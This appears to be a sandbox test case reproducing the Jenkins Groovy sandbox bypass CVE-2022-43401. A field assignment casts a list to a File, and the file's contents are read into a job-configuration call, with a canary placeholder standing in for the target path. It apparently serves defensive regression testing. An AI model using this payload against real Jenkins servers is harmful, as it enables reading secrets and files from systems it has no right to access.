// class: property
// source: Jenkins SECURITY-2824 / CVE-2022-43401 (implicit casts not intercepted) (attributes)
// expect: read
class T { File file }
def t = new T()
t.@file = ['@CANARY_READ@']
vmwareSite("leak-${t.@file.text}") { network 'VM Network' }
